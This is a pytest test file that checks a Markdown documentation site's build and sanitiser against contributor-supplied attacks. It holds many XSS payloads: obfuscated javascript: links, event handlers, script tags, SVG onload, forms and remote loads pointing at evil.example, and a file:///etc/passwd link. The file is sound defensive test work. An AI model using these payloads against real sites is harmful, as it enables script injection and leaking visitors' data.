"""A stranger's pull request cannot bring a script, a tracker or anything from another host: neither said nor built."""

import os
import re
import subprocess
import sys
from collections.abc import Collection
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as some
from playwright.sync_api import Browser

from authoring.helpers import ROOT, convert, problems
from authoring.test_new_kind import copy
from model import safety
from sources import file_types

# Each stands alone on line 3 of a page, or begins there, unless “@” says in which line the mistake is.
QUIZ = "/// quiz | Q\n    id: [id]-q\n\n1.  Words {{ #[id]-w }}\n\n{}    - [ ] {} {{ #a }}\n    - [x] b {{ #b }}\n///"
LIST = "/// checklist | {}\n    id: [id]-q\n{}\n- [ ] a {{ #[id]-a{} }}\n{}///"
ROWS = """/// plan | Q
    id: [id]-q

//// rows
    id: [id]-r
    count: 2

| a <script>alert(1)</script> { #a } |
|---|
////
///"""
ATTACKS = {
    "link": "[x](javascript:alert(1))",
    "link-in-capitals": "[x](JaVaScRiPt:alert(1))",
    "link-with-a-tab": "[x](java\tscript:alert(1))",
    "link-with-a-line-break": "[x](<java\nscript:alert(1)>)",
    "link-with-a-space-before": "[x](< javascript:alert(1)>)",
    "link-with-a-control-character": "[x](\x01javascript:alert(1))",
    "link-with-a-zero-width-space": "[x](\u200bjavascript:alert(1))",
    "link-with-a-numbered-entity": "[x](java&#115;cript:alert(1))",
    "link-with-a-hex-entity": "[x](java&#x73;cript:alert(1))",
    "link-with-an-entity-without-its-end": "[x](&#106avascript:alert(1))",
    "link-with-a-named-entity": "[x](javascript&colon;alert(1))",
    "link-with-an-entity-for-a-tab": "[x](java&Tab;script:alert(1))",
    "link-with-an-entity-for-a-line-break": "[x](java&NewLine;script&#58;alert(1))",
    "link-with-a-backslash": "[x](javascript\\:alert(1))",
    "link-to-data": "[x](data:text/html,<script>alert(1)</script>)",
    "link-to-data-in-base-64": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link-to-vbscript": "[x](vbscript:msgbox(1))",
    "link-to-a-blob": "[x](blob:https://evil.example/x)",
    "link-to-a-file": "[x](file:///etc/passwd)",
    "link-by-reference": "[x][y]\n\n[y]: javascript:alert(1) @5",
    "link-by-a-short-reference": "[x]\n\n[x]: <javascript:alert(1)> @5",
    "link-by-itself": "<javascript://evil.example/%0aalert(1)>",
    "link-without-its-beginning": "[x](//evil.example/x)",
    "link-with-backslashes": "[x](\\\\\\\\evil.example/x)",
    "link-in-a-heading": "## [x](javascript:alert(1))",
    "link-in-a-table": "| A | B |\n|---|---|\n| x | [x](javascript:alert(1)) | @5",
    "link-in-the-title-of-a-box": '!!! note "[x](javascript:alert(1))"\n    Words.',
    "link-around-a-picture": "[![x](../assets/logo.svg)](javascript:alert(1))",
    "picture-from-elsewhere": "![x](https://evil.example/x.png)",
    "picture-from-elsewhere-without-its-beginning": "![x](//evil.example/x.png)",
    "picture-from-elsewhere-with-backslashes": "![x](/\\evil.example/x.png)",
    "picture-from-elsewhere-with-a-tab": "![x](ht&Tab;tps://evil.example/x.png)",
    "picture-from-elsewhere-by-reference": "![x][y]\n\n[y]: https://evil.example/x.png @5",
    "picture-of-data": "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "picture-from-the-top-of-the-host": "![x](/tracker.png)",
    "picture-with-a-question": "![x](../assets/logo.svg?who=1)",
    "picture-with-a-set": '![x](../assets/logo.svg){ srcset="https://evil.example/x.png 1x" }',
    "picture-that-fails": '![x](../assets/logo.svg){ onerror="alert(1)" }',
    "braces-with-a-handler": 'Words. { onclick="alert(1)" }',
    "braces-with-a-handler-after-an-id": "Words. { #[id]-x onmouseover=alert(1) }",
    "braces-with-a-style": 'Words. { style="background:url(https://evil.example/x)" }',
    "braces-with-a-source": "Words. { #[id]-x src=https://evil.example/x }",
    "braces-with-another-address": "[x](roles.md){ href=javascript:alert(1) }",
    "braces-with-a-target": "[x](roles.md){ target=_blank }",
    "braces-with-a-ping": "[x](roles.md){ ping=https://evil.example/x }",
    "braces-after-bold": '**x**{ onfocus="alert(1)" tabindex=0 autofocus=1 }',
    "braces-after-code": "`x`{ onclick=alert(1) }",
    "braces-after-a-heading": "## Words { #y onclick=alert(1) }",
    "braces-on-a-line-of-their-own": "Words.\n{: onclick=alert(1) } @4",
    "braces-in-an-item": "- Words. { #[id]-x onclick=alert(1) }",
    "braces-in-a-cell": "| A { #c onclick=alert(1) } | B |\n|---|---|\n| x | y |",
    "braces-with-a-label-for-the-contents": '## Words { #y data-toc-label="<img src=x onerror=alert(1)>" }',
    "braces-that-hide": "Words. { #[id]-x hidden }",
    "script": "<script>alert(1)</script>",
    "script-from-elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script-in-a-line": "Words <script>alert(1)</script> and more.",
    "script-in-capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script-that-never-ends": "<script>alert(1)",
    "script-with-markdown-in-it": "<script markdown>alert(1)</script>",
    "script-in-a-comment-that-ends-early": "<!--> <script>alert(1)</script> -->",
    "script-in-a-comment-that-ends-with-a-bang": "<!-- --!> <script>alert(1)</script> -->",
    "script-in-a-comment-in-a-line": "Words <!-- --!><img src=x onerror=alert(1)> --> more.",
    "script-in-a-heading": "## Words <script>alert(1)</script>",
    "script-in-an-item": "- Words <script>alert(1)</script>",
    "script-in-a-quote": "> Words <script>alert(1)</script>",
    "script-in-the-title-of-a-box": '!!! note "<script>alert(1)</script>"\n    Words.',
    "script-in-the-title-of-a-card": '??? card "<script>alert(1)</script>"\n    Words.',
    "script-in-a-term": "Words <script>alert(1)</script>\n:   More.",
    "script-in-a-div": '<div class="grid cards" markdown>\n\n<script>alert(1)</script>\n\n</div>\n @5',
    "script-in-the-first-line-of-code": "``` { .python data-x='\"><script>alert(1)</script>' }\nx\n```",
    "script-in-a-declaration": "<!DOCTYPE x [<script>alert(1)</script>]>",
    "script-in-an-instruction": "<?x <script>alert(1)</script> ?>",
    "script-in-cdata": "<![CDATA[ <script>alert(1)</script> ]]>",
    "drawing": "<svg/onload=alert(1)>",
    "drawing-with-a-script": "<svg><script>alert(1)</script></svg>",
    "formula": "<math><maction xlink:href=javascript:alert(1)>x</maction></math>",
    "picture-as-html": "<img src=x onerror=alert(1)>",
    "picture-as-html-over-lines": "<img\nsrc=x\nonerror=alert(1)>",
    "picture-as-html-that-never-ends": "Words <img src=https://evil.example/x.png onerror=alert(1) x",
    "quote-that-stays-open": '<b title="> Words " onmouseover=alert(1) x="',
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "frame-with-markdown-in-it": '<iframe markdown srcdoc="<script>alert(1)</script>">\n\nWords.\n\n</iframe>',
    "style": "<style>body{background:url(https://evil.example/x)}</style>",
    "style-from-elsewhere": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="who"><button>Send</button></form>',
    "form-with-markdown-in-it": '<form action="https://evil.example/" markdown>\n\nWords.\n\n</form>',
    "object": '<object data="https://evil.example/x"></object>',
    "embed": '<embed src="https://evil.example/x">',
    "film": '<video src="https://evil.example/x.mp4" autoplay></video>',
    "sound": '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    "details-that-toggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "div-with-a-handler": '<div class="grid cards" onclick="alert(1)" markdown>\n\nWords.\n\n</div>',
    "div-with-a-style": '<div markdown style="position:fixed;inset:0">\n\nWords.\n\n</div>',
    "div-that-ends-the-page": "Words.\n\n</div></article></main> @5",
    "end-tag-in-a-line": "Words </main> more.",
    "element-of-an-activity": '<activity-quiz data-saved="x"></activity-quiz>',
    "title-that-ends-the-title": "Words. &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; <script>alert(2)</script>",
    "abbreviation": 'HTML\n\n*[HTML]: x" onmouseover="alert(1)\n\n<u>x</u> @7',
    "option-of-a-quiz": QUIZ.format("", "<img src=x onerror=alert(1)>") + " @8",
    "hint-of-a-quiz": QUIZ.format("    //// hint\n    [x](javascript:alert(1))\n    ////\n\n", "a") + " @9",
    "title-of-an-activity": LIST.format("<script>alert(1)</script>", "", "", "") + " @3",
    "attributes-of-an-activity": LIST.format("Q", "    attrs: {onclick: alert(1)}\n", "", "") + " @5",
    "item-of-a-checklist": LIST.format("Q", "", " onclick=alert(1)", "") + " @6",
    "note-in-a-checklist": LIST.format("Q", "", "", "\n    Words. { #[id]-n onclick=alert(1) }\n") + " @8",
    "field-of-a-plan": "/// plan | Q\n    id: [id]-q\n\n- a <input onfocus=alert(1) autofocus> { #[id]-a }\n/// @6",
    "table-of-a-plan": ROWS + " @10",
}
FRONT = "---\n{}\n---\n\n# Words\n\nMore.\n"
FRONT_ATTACKS = {
    "title": "title: </title><script>alert(1)</script>",
    "description": "description: '\"><script>alert(1)</script>'",
}
NOT_OURS = re.compile(r"(?:[a-z][a-z0-9+.-]*:|//)", re.IGNORECASE)


HARMLESS, CHECKLIST = (
    "attack-none",
    "# Words\n\n/// checklist | Words\n    id: harmless\n\n- [ ] Words { #harmless-item }\n///\n",
)
"""A page with an activity and no attack: its scripts are the frame's."""


class Findings(HTMLParser):
    """Reads a built page, and notes what could run or load something that is not the site's own."""

    def __init__(self, html: str, ours: Collection[str]) -> None:
        """Read a page; `ours` are the scripts and the pictures that stand in every page."""
        super().__init__()
        self.ours = ours
        self.found: list[str] = []
        self.pictures: list[str] = []
        self.scripts: list[str] = []
        self.inside = False
        self.feed(html)
        self.found += [f"<script>{script}" for script in self.scripts if script not in ours]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at an element."""
        given = dict(attrs)
        self.inside = tag == "script"
        if self.inside and "src" in given:
            self.scripts.append(given["src"] or "")
        if tag in {"iframe", "object", "embed", "base", "video", "audio", "form", "frame", "math"}:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            address = re.sub(r"[\x00-\x20]", "", value or "").replace("\\", "/")
            if name.startswith("on") or (
                name in {"style", "srcdoc", "srcset", "ping", "action"} and "text-align" not in address
            ):
                self.found.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src":
                self.pictures.append(value or "")
            if name in {"src", "data", "poster"} and NOT_OURS.match(address) and value not in self.ours:
                self.found.append(f"{tag} {name}={value}")
            if name == "href" and (scheme := NOT_OURS.match(address)) and scheme[0] not in {"https:", "mailto:"}:
                self.found.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        """Note a script that stands in the page."""
        if self.inside and data.strip():
            self.scripts.append(data)

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002 - as HTMLParser calls it
        """Leave an element."""
        self.inside = False


def written(name: str) -> tuple[str, int]:
    """Return the page of an attack, and the line that it is reported at."""
    if name.startswith("front-"):
        return FRONT.format(FRONT_ATTACKS[name.removeprefix("front-")]), 2
    text, at, line = ATTACKS[name].rpartition(" @")
    text = (text if at else line).replace("[id]", name)
    paper = "paper: none" if len(name) % 2 else "stage: 1"  # whether it becomes paper makes no difference
    return f"---\n{paper}\n---\n# Words\n\n{text}\n", int(line) + 3 if at else 6


FOUND = """() => [
    ...(window.alerted ? ["alerted"] : []),
    ...(document.querySelectorAll("main").length === 1 ? [] : ["not one main part"]),
    ...[...document.querySelectorAll("*")].flatMap((one) => [...one.attributes]
        .filter((each) => /^on/i.test(each.name)).map((each) => one.localName + " " + each.name)),
]"""
NAMES = [*ATTACKS, *(f"front-{name}" for name in FRONT_ATTACKS)]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    """Build a copy of the guide that has a page with each attack, and give the site and what the build says."""
    root = copy(tmp_path_factory.mktemp("attacked") / "guide")
    settings = (root / "mkdocs.yml").read_text("utf-8")
    settings = settings.replace(
        "        - locale: bg\n          name: Български\n          build: true",
        "        - locale: bg\n          name: Български\n          build: false",
    )
    settings = settings.replace(
        "          name: Türkçe\n          build: true", "          name: Türkçe\n          build: false"
    )
    (root / "mkdocs.yml").write_text(settings + "\nnot_in_nav: attack-*.md\n", "utf-8")
    for name in NAMES:
        (root / "docs" / "en" / f"attack-{name}.md").write_text(written(name)[0], "utf-8")
    (root / "docs" / "en" / f"{HARMLESS}.md").write_text(CHECKLIST, "utf-8")
    program = "from _site import build_into; from pathlib import Path; build_into(Path('.'), Path('site'), show=print)"
    environment = {
        **os.environ,
        "PYTHONPATH": str(ROOT / "scripts"),
        "PYTHONIOENCODING": "utf-8",
        "NO_MKDOCS_2_WARNING": "1",
    }
    command = [sys.executable, "-c", program]
    done = subprocess.run(command, cwd=root, env=environment, capture_output=True, encoding="utf-8", check=False)
    assert "Traceback" not in done.stderr
    return root / "site", done.stdout.splitlines()


@pytest.fixture(scope="module")
def ours(built: tuple[Path, list[str]]) -> list[str]:
    """Give the scripts and the logo that a page without an attack has, and the scripts of activities."""
    kinds = [f"../assets/activities/{path.name}" for path in (built[0] / "assets" / "activities").glob("*.js")]
    found = kinds
    for name in ("glossary", HARMLESS):
        page = Findings((built[0] / name / "index.html").read_text("utf-8"), ())
        found += page.scripts + page.pictures
    return found


@pytest.mark.parametrize("name", NAMES)
def test_an_attack_is_reported_at_its_line(name: str, built: tuple[Path, list[str]]) -> None:
    """The build stops with the line, whether the page becomes paper or not, and says nothing else of it."""
    _, line = written(name)
    said = [message for message in built[1] if f"/attack-{name}.md:" in message]
    assert {message.split(": ")[0] for message in said} == {f"docs/en/attack-{name}.md:{line}"}, said


@pytest.mark.parametrize("name", NAMES)
def test_a_live_preview_holds_nothing_of_it(name: str, built: tuple[Path, list[str]], ours: list[str]) -> None:
    """Also whoever only looks at a stranger's page on their own computer meets no script and no other host."""
    assert Findings((built[0] / f"attack-{name}" / "index.html").read_text("utf-8"), ours).found == []


def test_a_browser_runs_and_loads_nothing_of_it(browser: Browser, built: tuple[Path, list[str]]) -> None:
    """A browser reads HTML in its own way: on no page a script of a stranger runs, or another host is asked."""
    frames = "".join(f'<iframe src="attack-{name}/index.html"></iframe>' for name in NAMES)
    (built[0] / "attacks.html").write_text(frames, "utf-8")
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.add_init_script("window.alert = () => { window.alerted = true; };")
    page.goto((built[0] / "attacks.html").as_uri())
    found = {frame.url: frame.evaluate(FOUND) for frame in page.main_frame.child_frames}
    page.close()
    assert len(found) == len(NAMES)
    assert {url: wrong for url, wrong in found.items() if wrong} == {}
    assert [url for url in asked if not url.startswith("file:")] == []


@pytest.mark.parametrize(
    "address",
    ["roles.md", "roles.md#coach", "#coach", "https://x.example", "mailto:a@b.example", "a:b/../roles.md"[2:]],
)
def test_other_links_may_stand(address: str) -> None:
    """A page, a place on it, a site and an address for letters."""
    assert safety.link(address) == ""


@pytest.mark.parametrize("html", ["<br>", "<BR/>", "<!-- words -->", "<!-- a -- b -->", "&nbsp;", "&#8203;"])
def test_a_little_html_may_stand(html: str) -> None:
    """What Markdown has no other way for."""
    assert safety.html(html, frozenset()) == ""


DRAWINGS = {
    "<script>alert(1)</script>": "<script>",
    "<a href='javascript:alert(1)'/>": "href",
    "<a xlink:href='https://evil.example/'/>": "xlink:href",
    "<image href='https://evil.example/x.png'/>": "href",
    "<image href='data:text/html,x'/>": "href",
    "<use xlink:href='//evil.example/x.svg#a'/>": "xlink:href",
    "<rect onclick='alert(1)'/>": "onclick",
    "<rect ONLOAD='alert(1)'/>": "ONLOAD",
    "<animate attributeName='href' to='x'/>": "attributeName",
    "<foreignObject/>": "<foreignObject>",
    "<rect style='fill:url(https://evil.example/x)'/>": "style",
    "<style>@import 'https://evil.example/x.css';</style>": "@import 'https://evil.example/x.css';",
    "<script>alert(1)</script><g>": "<script>",
}


@pytest.mark.parametrize("inside", DRAWINGS)
def test_a_drawing_that_runs_or_loads_something_is_refused(inside: str, tmp_path: Path) -> None:
    """Whoever opens the picture by itself is on this site: the line and what it is are said."""
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    (tmp_path / "x.svg").write_text(f"<svg {names}>\n{inside}\n</svg>", "utf-8")
    line, message = file_types.problem(tmp_path / "x.svg") or (0, "")
    assert (line, message.partition("”")[0]) == (2, f"this drawing holds “{DRAWINGS[inside]}")


@pytest.mark.parametrize(
    "inside", ["<rect fill='url(#a)'/>", "<use href='#a'/>", "<image href='data:image/png;base64,x'/>"]
)
def test_a_drawing_of_shapes_may_stand(inside: str, tmp_path: Path) -> None:
    """Also with parts that it uses again, and a picture inside."""
    (tmp_path / "x.svg").write_text(f"<svg>{inside}</svg>", "utf-8")
    assert file_types.problem(tmp_path / "x.svg") is None


@pytest.mark.parametrize("name", ["x.html", "x.js", "x.HTM", "x.swf", "x.xml", "x.css", "x.mjs", "x.svgz", "x"])
def test_a_file_that_a_browser_might_run_is_refused(name: str, tmp_path: Path) -> None:
    """Beside the pages lie pictures and documents, nothing else."""
    pages = {"en/page.md": "# A page\n", f"en/{name}": "x", "assets/x.png": "x", "assets/x.pdf": "x"}
    said = "a file of this kind cannot be published, for a browser may run it. Write a page, or use a picture."
    assert problems(tmp_path, pages) == [f"en/{name}:1: {said}"]


PIECES = [
    *(
        "<",
        ">",
        "</",
        "/>",
        "<!--",
        "-->",
        "--!>",
        "<!",
        "<?",
        "?>",
        "]]>",
        "<![CDATA[",
        '"',
        "'",
        "`",
        "``",
        "=",
        " ",
        "\n",
    ),
    *(
        "\n\n",
        "\t",
        "\x00",
        "\x0c",
        "\u200b",
        "\\",
        "&",
        "&#60;",
        "&lt;",
        "&colon;",
        "&Tab;",
        "*",
        "**",
        "_",
        "#",
        "|",
        "- ",
    ),
    *("[", "]", "(", ")", "](", "![", "[x]: ", "{", "}", "{: ", "{ #y ", "markdown", "markdown=span", "x", "a", "b"),
    *(
        "script",
        "<script>",
        "</script>",
        "img",
        "<img src=x onerror=alert(1)>",
        "svg",
        "<svg onload=alert(1)>",
        "iframe",
    ),
    *(
        "<iframe src=//evil.example>",
        "style",
        "<style>",
        "div",
        "<div",
        "</div>",
        "<p markdown>",
        "<details>",
        "<a href=",
    ),
    *(
        "onclick=alert(1)",
        " onload=alert(1) ",
        "src=//evil.example/x",
        "href=javascript:alert(1)",
        "javascript:alert(1)",
    ),
    *("data:text/html,x", "//evil.example/x", "https://evil.example/x.png", "style=x:url(//evil.example)", "*[x]: "),
    *('!!! note "', '??? card "', "```", "``` { .x ", "~~~", "/// quiz | ", "    id: z\n", "///", "1. ", ":   ", "> "),
]
AROUND = ["{}", "# {}", "- {}", "> {}", '!!! note "{}"\n    {}', "| {} | b |\n|---|---|\n| {} | c |", "Term {}\n:   {}"]
AROUND += [
    "    {}",
    "[{}](roles.md)",
    "[x]({})",
    "![{}](../assets/logo.svg)",
    "![x]({})",
    "**{}**",
    "`{}`",
    "```\n{}\n```",
]
AROUND += [
    "/// checklist | {}\n    id: c\n\n- [ ] {} {{ #d }}\n\n    {}\n///",
    "<div markdown>\n\n{}\n\n</div>",
    "*[x]: {}\n\nx",
]


@settings(max_examples=400, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(some.lists(some.sampled_from(PIECES), min_size=1, max_size=14), some.sampled_from(AROUND))
def test_no_mixture_brings_a_script(pieces: list[str], around: str) -> None:
    """However these pieces are put together, what is made of them runs nothing and asks no other host."""
    html, _ = convert(
        around.replace("{}", "".join(pieces)).replace("{{", "{").replace("}}", "}"),
        "pymdownx.superfences",
        "pymdownx.details",
        "abbr",
    )
    assert Findings(html, ()).found == []


@pytest.mark.parametrize("written", ["\\<initials>", "&lt;initials&gt;"])
@pytest.mark.parametrize(
    "around", ["{}", "# {}", "- {}", "> {}", '!!! note "{}"\n    x', "| {} | b |\n|---|---|\n| a | b |"]
)
def test_what_an_error_says_to_write_is_shown_as_it_reads(written: str, around: str) -> None:
    """A word in angle brackets stands on the page, with both ways to write it, and nothing is wrong with that."""
    html, extension = convert(around.replace("{}", written))
    assert "&lt;initials&gt;" in html
    assert "\\" not in html
    assert list(extension.problems) == []


def test_the_same_in_an_activity() -> None:
    """On the page and in what paper is made from."""
    html, extension = convert("/// checklist | C\n    id: c\n\n- [ ] Write \\<initials> and &lt;name&gt;. { #d }\n///")
    assert "Write &lt;initials&gt; and &lt;name&gt;." in html
    assert "Write <initials> and <name>." in str(extension.page.activities[0])
